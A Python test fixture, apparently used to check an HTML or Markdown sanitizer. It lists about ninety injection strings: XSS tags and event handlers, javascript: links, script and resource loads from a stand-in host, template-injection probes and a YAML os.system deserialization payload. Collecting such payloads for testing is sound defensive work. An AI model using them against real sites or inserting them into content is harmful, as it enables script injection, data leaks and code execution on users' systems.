"""Texts that would run, load or send something where any of them were taken for markup."""

HOST = "http://203.0.113.7"
RUN = "window.__ran=1"

PAYLOADS = tuple(
    text.replace("RUN", RUN).replace("HOST", HOST)
    for text in (
        "<script>RUN</script>", "<script src=HOST/a.js></script>", "<ScRiPt>RUN</sCrIpT>", "<script/x>RUN</script>",
        "<<script>RUN//<</script>", "</script><script>RUN</script>", "</title><script>RUN</script>", "</textarea><script>RUN</script>",
        "--><script>RUN</script>", "]]><script>RUN</script>", "<img src=x onerror=RUN>", "<img src=HOST/a.png>", "<img srcset='HOST/a.png 1x'>",
        "<img/src=x/onerror=RUN>", "<img src=x:x onerror\n=RUN>", "\"><img src=x onerror=RUN>", "'><img src=x onerror=RUN>", "\" autofocus onfocus=RUN x=\"",
        "' onmouseover='RUN' x='", "` onmouseover=RUN `", "<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><use href='HOST/a.svg#x'/></svg>", "<svg><image href='HOST/a.png'/></svg>", "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
        "<svg><foreignObject><iframe src='javascript:RUN'></iframe></foreignObject></svg>", "<style>*{background:url(HOST/a.png)}</style>",
        "<style>@import 'HOST/a.css';</style>", "<p style=\"background:url('HOST/a.png')\">x</p>", "<p style='animation:x' onanimationstart=RUN>x</p>",
        "<link rel=stylesheet href=HOST/a.css>", "<link rel=prefetch href=HOST/a>", "<link rel=icon href=HOST/a.ico>", "<video src=HOST/a.mp4 autoplay></video>",
        "<video poster=HOST/a.png></video>", "<video><source onerror=RUN></video>", "<audio src=HOST/a.mp3 onerror=RUN autoplay></audio>", "<track src=HOST/a.vtt default>",
        "<iframe src=HOST/></iframe>", "<iframe src='javascript:RUN'></iframe>", "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>", "<object data=HOST/a.swf></object>",
        "<embed src=HOST/a.swf>", "<form action=HOST/><button>go</button></form>", "<button formaction='javascript:RUN'>x</button>", "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN>", "<details open ontoggle=RUN>x</details>", "<marquee onstart=RUN>x</marquee>", "<body onload=RUN>", "<base href=HOST/>",
        "<meta http-equiv=refresh content='0;url=HOST/'>", "<a href='javascript:RUN'>x</a>", "<a href='data:text/html,<script>RUN</script>'>x</a>", "<a href=HOST/ ping=HOST/>x</a>",
        "<table background=HOST/a.png><tr><td>x</table>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        "<template><img src=x onerror=RUN></template>", "<x contenteditable autofocus onfocus=RUN>x</x>", "<dialog open oncancel=RUN>x</dialog>",
        "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src=x onerror=RUN&#62;", "&amp;lt;img src=x onerror=RUN&amp;gt;", "\\u003cimg src=x onerror=RUN\\u003e",
        "%3Cimg%20src=x%20onerror=RUN%3E", "＜img src=x onerror=RUN＞", "![x](HOST/a.png)", "![x](HOST/a.png 'onerror=RUN')", "[x](javascript:RUN)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x]: HOST/a.png\n![x]", "<HOST/a>", "<javascript:RUN>", "$$\\href{javascript:RUN}{x}$$", "\\(\\unicode{x}\\)", "```mermaid\nclick x href \"javascript:RUN\"\n```",
        "{{constructor.constructor('RUN')()}}", "${RUN}", "`${RUN}`", "#{RUN}", "<%= RUN %>", "{% raw %}RUN{% endraw %}", "{{ cycler.__init__.__globals__ }}", "{0.__class__.__mro__}",
        "__proto__", "constructor", "before \u202e txt.exe after", "!!python/object/apply:os.system ['RUN']",
    )
)  # fmt: skip
